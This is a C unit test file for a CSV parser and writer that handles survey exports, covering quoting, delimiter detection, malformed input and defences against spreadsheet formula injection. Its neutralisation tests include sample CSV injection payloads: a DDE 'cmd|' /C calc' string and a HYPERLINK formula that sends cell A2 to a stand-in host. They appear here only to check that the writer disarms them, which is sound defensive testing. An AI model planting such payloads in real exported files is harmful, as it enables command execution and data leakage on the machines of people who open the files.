/*
 * lib/csv: RFC 4180 text as Microsoft Forms (through Excel) and
 * LimeSurvey export it, and every way it can be malformed.  No database.
 */
#include "config.h"

#include <check.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "buf.h"
#include "csv.h"
#include "report/format.h"
#include "report/report_doc.h"
#include "testdb.h"

static struct csv *
parse_ok(const char *text, char delimiter)
{
	struct msp_error err;
	struct csv *csv = NULL;

	ck_assert_msg(csv_parse(text, strlen(text), delimiter, &csv, &err) ==
		      MSP_OK, "%s", err.message);
	ck_assert_ptr_nonnull(csv);
	return csv;
}

/* Parses text, expects MSP_EINVAL and returns the message (static). */
static const char *
parse_fails(const char *text, size_t len, char delimiter)
{
	static struct msp_error err;
	struct csv *csv = (struct csv *)&err;	/* must become NULL */

	ck_assert_int_eq(csv_parse(text, len, delimiter, &csv, &err),
			 MSP_EINVAL);
	ck_assert_ptr_null(csv);
	return err.message;
}

static void
assert_row(const struct csv *csv, size_t r, size_t line, size_t n, ...)
{
	va_list ap;
	size_t i;

	ck_assert_uint_lt(r, csv->n_rows);
	ck_assert_uint_eq(csv->rows[r].line, line);
	ck_assert_uint_eq(csv->rows[r].n, n);
	va_start(ap, n);
	for (i = 0; i < n; i++)
		ck_assert_str_eq(csv->rows[r].fields[i], va_arg(ap, char *));
	va_end(ap);
}

START_TEST(csv_reads_plain_records)
{
	struct csv *csv = parse_ok("a,b,c\n1,2,3\n,,\n", 0);

	ck_assert_int_eq(csv->delimiter, ',');
	ck_assert_uint_eq(csv->n_rows, 3);
	assert_row(csv, 0, 1, 3, "a", "b", "c");
	assert_row(csv, 1, 2, 3, "1", "2", "3");
	assert_row(csv, 2, 3, 3, "", "", "");
	csv_free(csv);

	/* no final line end; CRLF; a lone CR */
	csv = parse_ok("a,b\r\n1,2\r3,4", 0);
	ck_assert_uint_eq(csv->n_rows, 3);
	assert_row(csv, 1, 2, 2, "1", "2");
	assert_row(csv, 2, 3, 2, "3", "4");
	csv_free(csv);
}
END_TEST

START_TEST(csv_reads_quoted_fields)
{
	/* RFC 4180 §2.6-2.7: delimiters, line breaks and doubled quotes
	 * inside quotes; the next record's line counts the break */
	struct csv *csv = parse_ok(
		"id,texte\r\n"
		"1,\"Oui, r\xc3\xa9guli\xc3\xa8rement\"\r\n"
		"2,\"deux\r\nlignes et \"\"guillemets\"\"\"\r\n"
		"3,\"\"\r\n", 0);

	ck_assert_uint_eq(csv->n_rows, 4);
	assert_row(csv, 1, 2, 2, "1", "Oui, r\xc3\xa9guli\xc3\xa8rement");
	assert_row(csv, 2, 3, 2, "2",
		   "deux\r\nlignes et \"guillemets\"");
	assert_row(csv, 3, 5, 2, "3", "");
	csv_free(csv);
}
END_TEST

START_TEST(csv_detects_the_delimiter)
{
	/* French Excel and LimeSurvey: ';', with a BOM; a ',' inside a
	 * quoted header does not count */
	struct csv *csv = parse_ok("\xef\xbb\xbf\"Nom, ville\";R\xc3\xb4le;"
				   "x\n\"A, B\";coordinateur;1,5\n", 0);

	ck_assert_int_eq(csv->delimiter, ';');
	assert_row(csv, 0, 1, 3, "Nom, ville", "R\xc3\xb4le", "x");
	assert_row(csv, 1, 2, 3, "A, B", "coordinateur", "1,5");
	csv_free(csv);

	csv = parse_ok("a\tb\n1\t2\n", 0);
	ck_assert_int_eq(csv->delimiter, '\t');
	csv_free(csv);

	/* a single column: ',' by default */
	csv = parse_ok("seul\nx\n", 0);
	ck_assert_int_eq(csv->delimiter, ',');
	csv_free(csv);

	/* given, it wins over what the header suggests */
	csv = parse_ok("a;b,c\n1;2,3\n", ',');
	ck_assert_int_eq(csv->delimiter, ',');
	assert_row(csv, 1, 2, 2, "1;2", "3");
	csv_free(csv);
}
END_TEST

START_TEST(csv_skips_empty_lines)
{
	struct csv *csv = parse_ok("\n\na,b\n\n1,2\r\n\r\n", 0);

	ck_assert_uint_eq(csv->n_rows, 2);
	assert_row(csv, 0, 3, 2, "a", "b");
	assert_row(csv, 1, 5, 2, "1", "2");
	csv_free(csv);
}
END_TEST

START_TEST(csv_errors_name_the_line)
{
	ck_assert_str_eq(parse_fails("a,b\n1,2\n3,\xc3(\n", 12, 0),
			 "line 3: not valid UTF-8 (save the file as UTF-8)");
	/* Latin-1 from an old Excel */
	ck_assert_str_eq(parse_fails("a\nr\xe9gulier\n", 11, 0),
			 "line 2: not valid UTF-8 (save the file as UTF-8)");
	ck_assert_str_eq(parse_fails("a,b\n1,\0\n", 8, 0),
			 "line 2: a NUL byte");
	ck_assert_str_eq(parse_fails("a,b\n1,\"open\n\n", 13, 0),
			 "line 2: a quoted field is never closed");
	ck_assert_str_eq(parse_fails("a,b\n1,x\"y\n", 10, 0),
			 "line 2: a quote inside a field that does not start "
			 "with one (quote the field and double the quote)");
	ck_assert_str_eq(parse_fails("a,b\n\"x\ny\"z,1\n", 13, 0),
			 "line 3: only a delimiter or a line end may follow "
			 "a closing quote");
	ck_assert_str_eq(parse_fails("a,b\n1,2\n1,2,3\n", 14, 0),
			 "line 3: 3 fields, the header has 2");
	ck_assert_str_eq(parse_fails("a,b\n1\n", 6, 0),
			 "line 2: 1 field, the header has 2");
	ck_assert_str_eq(parse_fails("", 0, 0), "empty file: no header");
	ck_assert_str_eq(parse_fails("\xef\xbb\xbf\r\n", 5, 0),
			 "empty file: no header");
	ck_assert_str_eq(parse_fails("a\n", 2, '|'),
			 "the delimiter must be ',', ';' or a tab");
}
END_TEST

/*
 * Reads text[0..len) with csv_reader from a file and checks that it
 * gives what csv_parse() gives: the same rows, lines and fields, or the
 * same message.
 */
static void
reader_agrees(const char *text, size_t len, char delimiter)
{
	struct msp_error perr, rerr;
	struct csv *csv = NULL;
	struct csv_reader *r = NULL;
	const struct csv_row *row;
	enum msp_status pst, rst;
	FILE *f = tmpfile();
	size_t n = 0, i;

	ck_assert_ptr_nonnull(f);
	ck_assert_uint_eq(fwrite(text, 1, len, f), len);
	rewind(f);
	pst = csv_parse(text, len, delimiter, &csv, &perr);
	rst = csv_reader_new(f, delimiter, NULL, NULL, &r, &rerr);
	if (rst == MSP_OK) {
		row = csv_reader_header(r);
		do {
			if (pst != MSP_OK)
				continue;	/* until the reader fails too */
			ck_assert_int_eq(csv_reader_delimiter(r),
					 csv->delimiter);
			ck_assert_uint_lt(n, csv->n_rows);
			ck_assert_uint_eq(row->line, csv->rows[n].line);
			ck_assert_uint_eq(row->n, csv->rows[n].n);
			for (i = 0; i < row->n; i++)
				ck_assert_str_eq(row->fields[i],
						 csv->rows[n].fields[i]);
			n++;
		} while ((rst = csv_reader_next(r, &row, &rerr)) == MSP_OK &&
			 row != NULL);
	}
	if (pst != MSP_OK) {
		ck_assert_int_eq(rst, pst);
		ck_assert_str_eq(rerr.message, perr.message);
	} else {
		ck_assert_msg(rst == MSP_OK, "%s", rerr.message);
		ck_assert_uint_eq(n, csv->n_rows);
	}
	csv_reader_free(r);
	csv_free(csv);
	fclose(f);
}

START_TEST(csv_reader_gives_what_csv_parse_gives)
{
	static const struct { const char *s; size_t len; } texts[] = {
#define T(lit) { lit, sizeof(lit) - 1 }
		T("a,b,c\n1,2,3\n,,\n"), T("\xef\xbb\xbfx;y\n1;2"),
		T("a,b\n\"q \"\"u\"\"\r\nx\",2\r\"\",\"\"\n"),
		T("\n\na,b\n\n1,2\r\n\r\n"), T("a\tb\n1\t2\n"),
		T("a,b\n1,2\n3,\xc3(\n"), T("a\nr\xe9gulier\n"),
		T("a,b\n1,\0\n"), T("a,b\n1,\"open\n\n"),
		T("a,b\n1,x\"y\n"), T("a,b\n\"x\ny\"z,1\n"),
		T("a,b\n1,2\n1,2,3\n"), T("a,b\n1\n"), T(""),
		T("\xef\xbb\xbf\r\n"), T("a,b\r\n1,\"2\r\n3\"\r\n"),
#undef T
	};
	struct buf big = BUF_INIT(BUF_MAX_TEXT);
	size_t i;

	for (i = 0; i < sizeof(texts) / sizeof(texts[0]); i++)
		reader_agrees(texts[i].s, texts[i].len, 0);
	reader_agrees("a;b\n1;2\n", 8, ',');
	/* records across the reader's 64 KiB reads, a CRLF split by one
	 * of them, quoted line breaks: 200 KiB */
	buf_puts(&big, "id,text\n");
	for (i = 0; big.len < 200 * 1024; i++)
		buf_printf(&big, "%zu,\"%zu\"\"x\r\ny%s\"\r\n", i, i,
			   i % 5 ? "" : ",z");
	ck_assert(!big.failed);
	reader_agrees(big.data, big.len, 0);
	/* a CR as the last byte of the first read, its LF the first of
	 * the next */
	buf_reset(&big);
	buf_puts(&big, "a\n");
	while (big.len < 65535)
		buf_putc(&big, 'x');
	buf_puts(&big, "\r\ny\n");
	ck_assert_int_eq(big.data[65535], '\r');
	reader_agrees(big.data, big.len, 0);
	buf_free(&big);
}
END_TEST

START_TEST(csv_caps_the_fields)
{
	size_t n = CSV_MAX_FIELDS, i;	/* n delimiters: n + 1 fields */
	char *text = malloc(n + 1);
	struct msp_error err;
	struct csv *csv = NULL;

	ck_assert_ptr_nonnull(text);
	for (i = 0; i < n; i++)
		text[i] = ',';
	text[n] = '\n';
	ck_assert_int_eq(csv_parse(text, n + 1, ',', &csv, &err), MSP_EINVAL);
	ck_assert_str_eq(err.message, "line 1: more than 10000 fields");
	/* exactly the maximum is fine */
	ck_assert_int_eq(csv_parse(text, n - 1, ',', &csv, &err), MSP_OK);
	ck_assert_uint_eq(csv->rows[0].n, CSV_MAX_FIELDS);
	csv_free(csv);
	free(text);
}
END_TEST

/* A field is one value: longer than BUF_MAX_TEXT, the file is refused,
 * naming the line, not read into memory without end. */
START_TEST(csv_caps_a_field)
{
	size_t n = BUF_MAX_TEXT + 1, i;
	char *text = malloc(n + 6);
	struct msp_error err;
	struct csv *csv = NULL;

	ck_assert_ptr_nonnull(text);
	memcpy(text, "a,b\n1,", 6);
	for (i = 0; i < n; i++)
		text[6 + i] = 'x';
	ck_assert_int_eq(csv_parse(text, n + 6, ',', &csv, &err), MSP_EINVAL);
	ck_assert_ptr_null(csv);
	ck_assert_str_eq(err.message, "line 2: a field: longer than the "
			 "maximum of 1048576 bytes");
	/* the field's buffer holds its NUL too: a byte less is read */
	ck_assert_int_eq(csv_parse(text, n + 4, ',', &csv, &err), MSP_OK);
	ck_assert_uint_eq(strlen(csv->rows[1].fields[1]), BUF_MAX_TEXT - 1);
	csv_free(csv);
	free(text);
}
END_TEST

/* s as csv_write_field() or csv_write_number() writes it (static). */
static const char *
field(const char *s, int number)
{
	static char out[256];
	struct buf b = BUF_INIT(BUF_MAX_DOCUMENT);

	if (number)
		csv_write_number(&b, s);
	else
		csv_write_field(&b, s);
	ck_assert(!b.failed);
	snprintf(out, sizeof(out), "%s", buf_str(&b));
	buf_free(&b);
	return out;
}

/* OWASP's rule against CSV injection, cell by cell: what a spreadsheet
 * would run as a formula gets a leading ', and so does a leading ',
 * so that a reader can always drop it; numbers the program typed stay
 * numbers. */
START_TEST(csv_fields_are_neutralised)
{
	static const struct {
		const char *in, *text, *number;
	} cases[] = {
		{ "=1+1", "'=1+1", "'=1+1" },
		{ "+33 6", "'+33 6", "'+33 6" },
		{ "-1", "'-1", "-1" },
		{ "-2.5", "'-2.5", "-2.5" },
		{ "1e-05", "1e-05", "1e-05" },
		{ "-3+cmd|' /C calc'!A0", "'-3+cmd|' /C calc'!A0",
		  "'-3+cmd|' /C calc'!A0" },
		{ "@SOMME(A1)", "'@SOMME(A1)", "'@SOMME(A1)" },
		{ "\tx", "'\tx", "'\tx" },
		{ "\rx", "\"'\rx\"", "\"'\rx\"" },
		{ "'cité'", "''cité'", "''cité'" },
		{ "=HYPERLINK(\"http://x/?\"&A2,\"cliquez\")",
		  "\"'=HYPERLINK(\"\"http://x/?\"\"&A2,\"\"cliquez\"\")\"",
		  "\"'=HYPERLINK(\"\"http://x/?\"\"&A2,\"\"cliquez\"\")\"" },
		{ "a=b, c", "\"a=b, c\"", "\"a=b, c\"" },
		{ "12", "12", "12" },
		{ "", "", "" },
		{ "-", "'-", "'-" },
		{ "-.5", "'-.5", "'-.5" },
	};
	size_t i;

	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		ck_assert_str_eq(field(cases[i].in, 0), cases[i].text);
		ck_assert_str_eq(field(cases[i].in, 1), cases[i].number);
	}
	ck_assert_str_eq(field(NULL, 0), "");
	ck_assert_str_eq(field(NULL, 1), "");
}
END_TEST

/* What the writer writes, the parser reads back: each text as a field
 * and as a number, one record each, through csv_parse(); a leading '
 * is always the writer's (docs/import-export.md), so dropping it gives
 * the text back. */
START_TEST(csv_written_fields_read_back)
{
	static const char *const texts[] = {
		"plain", "", "a,b", "dit \"oui\"", "\"", "deux\nlignes",
		"cr\rseul", "crlf\r\nfin", "=1+1", "-3", "-2.5e-3", "+33 6",
		"@x", "\tx", "'cité'", "''", "« Autre » ; précisez", " x ",
		"=HYPERLINK(\"http://x/?\"&A2,\"cliquez\")",
	};
	const size_t n = sizeof(texts) / sizeof(texts[0]);
	struct buf b = BUF_INIT(BUF_MAX_DOCUMENT);
	struct csv *csv = NULL;
	struct msp_error err;
	size_t i, j;

	buf_puts(&b, "text,number\r\n");
	for (i = 0; i < n; i++) {
		csv_write_field(&b, texts[i]);
		buf_putc(&b, ',');
		csv_write_number(&b, texts[i]);
		buf_puts(&b, "\r\n");
	}
	ck_assert(!b.failed);
	ck_assert_msg(csv_parse(b.data, b.len, ',', &csv, &err) == MSP_OK,
		      "%s", err.message);
	ck_assert_uint_eq(csv->n_rows, n + 1);
	for (i = 0; i < n; i++)
		for (j = 0; j < 2; j++) {
			const char *got = csv->rows[i + 1].fields[j];

			if (got[0] == '\'')
				got++;
			ck_assert_msg(strcmp(got, texts[i]) == 0,
				      "case %zu column %zu: got '%s'", i, j,
				      csv->rows[i + 1].fields[j]);
		}
	csv_free(csv);
	buf_free(&b);
}
END_TEST

/* The report's CSV: labels that read as formulas are neutralised, a
 * negative statistic stays a number. */
START_TEST(report_csv_is_neutralised)
{
	struct rdoc *doc = rdoc_new();
	struct buf out = BUF_INIT(BUF_MAX_DOCUMENT);
	struct msp_error err;
	struct rtable *t;
	struct rrow *r;
	struct csv *csv = NULL;
	size_t i, seen = 0;

	ck_assert_ptr_nonnull(doc);
	t = rdoc_table(doc, "t", "Titre", 2);
	ck_assert_ptr_nonnull(t);
	rtable_column(doc, t, 0, "a", "@colonne");
	rtable_column(doc, t, 1, "b", "B");
	r = rtable_row(doc, t, "v", "=1+1", "c", "-5 ans");
	ck_assert_ptr_nonnull(r);
	r->cells[0].kind = RCELL_SUMMARY;
	r->cells[0].n = 3;
	r->cells[0].median = -4;
	r->cells[0].min = -10;
	r->cells[0].max = 2;
	r->cells[0].mean = -3.5;
	rcell_text(doc, &r->cells[1], "+cmd");
	ck_assert_int_eq(rdoc_status(doc, NULL), MSP_OK);
	ck_assert_int_eq(format_render(doc, FORMAT_CSV, &out, &err), MSP_OK);
	ck_assert_int_eq(csv_parse(out.data, out.len, ',', &csv, &err),
			 MSP_OK);
	for (i = 1; i < csv->n_rows; i++) {
		char **f = csv->rows[i].fields;

		ck_assert_uint_eq(csv->rows[i].n, 10);
		ck_assert_str_eq(f[2], "'=1+1");
		ck_assert_str_eq(f[4], "'-5 ans");
		if (strcmp(f[5], "a") == 0) {
			ck_assert_str_eq(f[6], "'@colonne");
			if (strcmp(f[7], "mean") == 0) {
				ck_assert_str_eq(f[8], "-3.5");
				seen++;
			}
			if (strcmp(f[7], "min") == 0) {
				ck_assert_str_eq(f[8], "-10");
				seen++;
			}
		} else if (strcmp(f[7], "text") == 0) {
			ck_assert_str_eq(f[9], "'+cmd");
			seen++;
		}
	}
	ck_assert_uint_eq(seen, 3);
	csv_free(csv);
	buf_free(&out);
	rdoc_free(doc);
}
END_TEST

static Suite *
csv_suite(void)
{
	Suite *s = suite_create("csv");
	TCase *tc = tcase_create("core");

	tcase_add_test(tc, csv_reads_plain_records);
	tcase_add_test(tc, csv_reads_quoted_fields);
	tcase_add_test(tc, csv_detects_the_delimiter);
	tcase_add_test(tc, csv_skips_empty_lines);
	tcase_add_test(tc, csv_errors_name_the_line);
	tcase_add_test(tc, csv_reader_gives_what_csv_parse_gives);
	tcase_add_test(tc, csv_caps_the_fields);
	tcase_add_test(tc, csv_caps_a_field);
	tcase_add_test(tc, csv_fields_are_neutralised);
	tcase_add_test(tc, csv_written_fields_read_back);
	tcase_add_test(tc, report_csv_is_neutralised);
	suite_add_tcase(s, tc);
	return s;
}

int
main(void)
{
	return testdb_run(csv_suite());
}
